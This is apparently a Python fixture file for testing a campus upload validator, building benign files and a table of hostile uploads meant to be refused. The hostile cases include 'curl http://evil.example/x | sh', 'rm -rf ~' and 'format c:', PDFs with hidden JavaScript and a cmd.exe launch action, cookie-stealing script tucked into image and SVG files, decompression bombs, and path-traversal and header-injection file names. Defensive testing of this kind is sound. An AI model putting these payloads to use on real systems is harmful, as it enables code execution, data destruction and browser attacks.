"""Good and hostile attachments, built in memory, deterministic and cheap (all of them in well
under a second), for the unit, integration and browser tests of campus.uploads.

HOSTILE maps a case name to (filename, content); every case must be refused."""
from __future__ import annotations

import datetime as dt
import functools
import io
import struct
import zipfile
import zlib

from fpdf import FPDF
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, ByteStringObject, NameObject, TextStringObject

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


@functools.cache
def good_pdf() -> bytes:
    """A one-page PDF as a person's software would make it."""
    pdf = FPDF()
    pdf.set_creation_date(dt.datetime(2026, 1, 1, tzinfo=dt.UTC))  # fixed, so the bytes are too
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Fee receipt 22P-123456")
    return bytes(pdf.output())


def _image(fmt: str, **options) -> bytes:
    image = Image.new("RGB", (16, 16))
    image.putdata([(x * 16, y * 16, 128) for y in range(16) for x in range(16)])
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


@functools.cache
def good_jpeg() -> bytes:
    return _image("JPEG", quality=90)


@functools.cache
def good_png() -> bytes:
    return _image("PNG")


def oversized(max_bytes: int) -> tuple[str, bytes]:
    """A good PDF padded past the limit (trailing whitespace after %%EOF is still a valid PDF)."""
    body = good_pdf()
    return "big.pdf", body + b"\n" * max(0, max_bytes + 1 - len(body))


def _pdf(objects: list[bytes], *, header: bytes = b"%PDF-1.4\n") -> bytes:
    """A classic PDF by hand: objects numbered from 1, catalog first, with a correct xref."""
    out, offsets = bytearray(header), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _one_page(catalog_extra: bytes = b"", *more: bytes, header: bytes = b"%PDF-1.4\n") -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
                 b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, *more], header=header)


def _javascript_in_object_stream() -> bytes:
    """PDF 1.5: the catalog and its JavaScript action compressed inside an object stream, where
    no byte scan of the file can see them; only a parser that opens the stream can."""
    inner = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             PAGE, b"<< /S /JavaScript /JS (app.alert(1)) >>"]
    table, bodies = [], b""
    for number, body in enumerate(inner, start=1):
        table.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    first = b" ".join(table) + b"\n"
    packed = zlib.compress(first + bodies)
    out = bytearray(b"%PDF-1.5\n")
    objstm = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(first), len(packed))
    out += packed + b"\nendstream\nendobj\n"
    xref = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 2, 5, i) for i in range(4)]
    rows += [struct.pack(">BIH", 1, objstm, 0), struct.pack(">BIH", 1, xref, 0)]
    data = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _rewritten(change) -> bytes:
    """good_pdf() passed through pypdf's writer with change(writer) applied."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _add_javascript(writer: PdfWriter) -> None:
    """Script run on opening, twice over: in the document's JavaScript names and as /OpenAction.
    pypdf names the script with a random UUID; a fixed name keeps the bytes the same every run."""
    writer.add_open_action(JavaScript("app.alert(1);"))
    scripts = writer.root_object["/Names"]["/JavaScript"]["/Names"]
    scripts[0] = TextStringObject("open")
    writer.root_object[NameObject("/OpenAction")] = scripts[1]


def _encrypt(writer: PdfWriter) -> None:
    """RC4 with a fixed file identifier: AES and pypdf's own identifiers are random, and these
    bytes must be the same every run (the password still has to be known to open it)."""
    fixed = ArrayObject([ByteStringObject(b"campus-hostile01")] * 2)
    writer._ID = fixed  # the key is derived from the first identifier
    writer.encrypt("secret", algorithm="RC4-128")
    writer._ID = fixed  # encrypt() replaced the second with random bytes


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit greyscale PNG of width x height black pixels, never held in memory: its
    zlib stream repeats one independently compressed megabyte of zeros (a full flush resets
    the history, so copies concatenate), and the Adler-32 of n zeros is (n mod 65521) << 16 | 1."""
    total = height * (1 + (width + 7) // 8)  # each row: a filter byte, then the packed bits
    megabyte = 1 << 20

    def deflated(n: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(bytes(n)) + compressor.flush(zlib.Z_FULL_FLUSH)

    whole, rest = divmod(total, megabyte)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty last block
    stream = b"\x78\xda" + deflated(megabyte) * whole + deflated(rest) + final
    stream += struct.pack(">I", ((total % 65521) << 16) | 1)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", stream)
            + _png_chunk(b"IEND", b""))


def _png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """good_png() with one more chunk before IEND (its last 12 bytes)."""
    png = good_png()
    return png[:-12] + _png_chunk(kind, data) + png[-12:]


def _jpeg_declaring(width: int, height: int) -> bytes:
    """good_jpeg() with its frame header (SOF0) saying width x height: only the header changes."""
    jpeg = bytearray(good_jpeg())
    position = 2
    while jpeg[position + 1] != 0xC0:
        position += 2 + int.from_bytes(jpeg[position + 2:position + 4], "big")
    jpeg[position + 5:position + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def _jpeg_with_comment(comment: bytes) -> bytes:
    """good_jpeg() with a COM segment right after SOI: a JPEG that is also a web page."""
    jpeg = good_jpeg()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("run.sh", date_time=(2026, 1, 1, 0, 0, 0)), "#!/bin/sh\nrm -rf ~\n")
    return out.getvalue()


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()


POLYGLOT_HEADER = b"%PDF-1.4\n%<html><script>alert(1)</script></html>\n"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

HOSTILE: dict[str, tuple[str, bytes]] = {
    "script_renamed_pdf": ("x.pdf", SCRIPT),
    "html_renamed_pdf": ("x.pdf", HTML),
    "html_pdf_polyglot": ("x.pdf", _one_page(header=POLYGLOT_HEADER)),
    "pdf_with_javascript": ("x.pdf", _rewritten(_add_javascript)),
    "pdf_with_escaped_javascript_name": (
        "x.pdf", _one_page(b"/OpenAction 4 0 R ", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
    "pdf_javascript_in_object_stream": ("x.pdf", _javascript_in_object_stream()),
    "pdf_with_launch": ("x.pdf", _one_page(b"/OpenAction 4 0 R ", b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf_with_embedded_file": ("x.pdf", _rewritten(lambda w: w.add_attachment("run.bat", b"format c:"))),
    "pdf_without_pages": ("x.pdf", _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                         b"<< /Type /Pages /Kids [] /Count 0 >>"])),
    "encrypted_pdf": ("x.pdf", _rewritten(_encrypt)),
    "truncated_pdf": ("x.pdf", good_pdf()[:40]),
    "png_decompression_bomb": ("bomb.png", _png_bomb(50_000, 50_000)),
    "png_over_pixel_limit": ("big.png", _png_bomb(8_000, 8_000)),  # 64 million: under Pillow's own limit
    "jpeg_decompression_bomb": ("bomb.jpg", _jpeg_declaring(65_000, 65_000)),
    "zip_renamed_png": ("x.png", _zip()),
    "png_with_zip_appended": ("x.png", good_png() + _zip()),
    "png_with_html_chunk": ("x.png", _png_with_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script>")),
    "jpeg_with_script_comment": ("x.jpg", _jpeg_with_comment(b"<script>alert(1)</script>")),
    "gif_image": ("x.gif", _gif()),
    "svg_with_script": ("x.svg", SVG),
    "truncated_png": ("x.png", good_png()[: len(good_png()) // 2]),
    "truncated_jpeg": ("x.jpg", good_jpeg()[: len(good_jpeg()) * 2 // 3]),
    "path_traversal_name": ("../../etc/passwd", good_pdf()),
    "windows_traversal_name": ("..\\..\\boot.ini", good_pdf()),
    "nul_in_name": ("scan\x00.pdf", good_pdf()),
    "newline_in_name": ("scan\r\nX-Injected: 1.pdf", good_pdf()),
    "bidi_override_name": ("invoice\u202efdp.exe", good_pdf()),
    "dot_file_name": (".htaccess", good_pdf()),
    "long_name": ("a" * 117 + ".pdf", good_pdf()),
    "empty_file": ("empty.pdf", b""),
}
